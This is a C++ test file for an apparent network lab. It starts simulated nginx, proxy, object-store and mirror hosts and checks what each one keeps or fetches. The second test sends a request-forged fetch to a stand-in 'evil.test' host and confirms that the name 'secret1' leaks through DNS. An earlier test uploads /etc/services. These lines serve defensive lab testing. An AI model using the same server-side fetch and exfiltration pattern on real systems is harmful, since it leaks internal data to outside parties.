#include "lab/daemon_nginx.h"

#include "lab/daemon_test_lab.h"

namespace vauban::lab {
namespace {

class DaemonNginxTest : public os::ConfinedTest {};
VAUBAN_CONFINED_TESTS(DaemonNginxTest);

constexpr const char* kHosts =
    "  rec: {zone: inside, address: 198.51.100.3, software: unbound, services: {dns: {behaviour: "
    "dns-recursive}}}\n"
    "  shut: {zone: inside, address: 198.51.100.4, services: {web: {behaviour: web-server, port: tcp/8080, "
    "calls-out: false}}}\n"
    "  open: {zone: inside, address: 198.51.100.5, services: {web: {behaviour: web-server, port: tcp/80, "
    "resolver: rec, accepts-uploads: true}}}\n"
    "  gate: {zone: inside, address: 198.51.100.6, services: {web: {behaviour: http-reverse-proxy, port: "
    "tcp/80, upstream: [open]}}}\n"
    "  store: {zone: inside, address: [198.51.100.7, \"2001:db8:1::7\"], services: {s3: {behaviour: "
    "object-store, port: tcp/9000}}}\n"
    "  share: {zone: inside, address: 198.51.100.8, services: {smb: {behaviour: file-share, port: "
    "tcp/445}}}\n"
    "  mirror: {zone: inside, address: 198.51.100.9, services: {m: {behaviour: update-mirror, port: "
    "tcp/3142, upstream: [good.test]}}}\n";

TEST_P(DaemonNginxTest, PagesStoresAndGateways) {
  VAUBAN_NEEDS("unbound", "nsd", "nginx", "chronyd", "curl");
  run([](const os::Confinement& confinement) {
    DaemonLab lab(confinement, kHosts);
    const auto rec = lab.start("rec"), shut = lab.start("shut"), open = lab.start("open"),
               gate = lab.start("gate"), store = lab.start("store"), share = lab.start("share"),
               mirror = lab.start("mirror");
    ASSERT_TRUE(rec && shut && open && gate && store && share && mirror);
    EXPECT_TRUE(shut->software().starts_with("nginx 1.")) << shut->software();
    EXPECT_EQ(lab.check("shut", *shut), "GET http://198.51.100.4:8080/: 200");
    EXPECT_EQ(lab.check("store", *store), "PUT and GET http://198.51.100.7:9000/functional-check: 201, 200");
    EXPECT_EQ(lab.check("share", *share), "PUT and GET http://198.51.100.8:445/functional-check: 201, 200");
    lab.check("gate", *gate);
    EXPECT_EQ(lab.check("mirror", *mirror), "GET http://198.51.100.9:3142/: 200");

    // A store keeps what strangers put there, also by way of a gateway; a page does not.
    const std::string big(100000, 'x');
    EXPECT_EQ(lab.curl("http://[2001:db8:1::7]:9000/a/b.txt", {"-g", "-T", "/etc/services"}).substr(0, 3),
              "000");  // no IPv6 for the client
    EXPECT_EQ(
        lab.curl("http://198.51.100.7:9000/a/b.txt", {"-X", "PUT", "--data-binary", "a stranger's words"})
            .substr(0, 3),
        "201");
    EXPECT_EQ(lab.run("mirror", {"curl", "-s", "http://198.51.100.7:9000/a/b.txt"}), "a stranger's words");
    EXPECT_NE(store->contents().find("a stranger's words"), std::string::npos);
    EXPECT_EQ(lab.curl("http://198.51.100.6/x.txt", {"-X", "PUT", "--data-binary", "through the gate"})
                  .substr(0, 3),
              "201");
    EXPECT_NE(open->contents().find("through the gate"), std::string::npos);
    EXPECT_EQ(gate->contents(), "");
    lab.curl("http://198.51.100.4:8080/x.txt", {"-X", "PUT", "--data-binary", "not kept"});
    EXPECT_EQ(shut->contents(), "");
    EXPECT_EQ(lab.run("client", {"curl", "-s", "http://198.51.100.4:8080/anything"}),
              "the page of shut-web\n");

    // The mirror asks its upstream and keeps what it got, with the path that was asked for.
    EXPECT_EQ(lab.run("client", {"curl", "-s", "http://198.51.100.9:3142/a-strangers-path"}),
              "a page of a trusted name\n");
    EXPECT_NE(mirror->contents().find("a-strangers-path"), std::string::npos);
  });
}

TEST_P(DaemonNginxTest, AServerThatMayCallOutFetchesWhatARequestNames) {
  VAUBAN_NEEDS("unbound", "nsd", "nginx", "chronyd", "curl");
  run([](const os::Confinement& confinement) {
    DaemonLab lab(confinement, kHosts);
    const auto rec = lab.start("rec"), shut = lab.start("shut"), open = lab.start("open");
    ASSERT_TRUE(rec && shut && open);
    EXPECT_EQ(lab.curl("http://198.51.100.5/fetch?url=http://secret1.evil.test/").substr(0, 3),
              "502");  // nobody serves there
    EXPECT_TRUE(lab.his->asked("secret1"));
    EXPECT_EQ(lab.run("client", {"curl", "-s", "http://198.51.100.5/fetch?url=http://www.good.test/"}),
              "a page of a trusted name\n");
    EXPECT_EQ(lab.run("client", {"curl", "-s", "http://198.51.100.5/fetch?url=http://203.0.113.80:443/"}),
              "a page of a trusted name\n");
    EXPECT_EQ(lab.run("client", {"curl", "-s", "http://198.51.100.4:8080/fetch?url=http://www.good.test/"}),
              "the page of shut-web\n");
  });
}

}  // namespace
}  // namespace vauban::lab
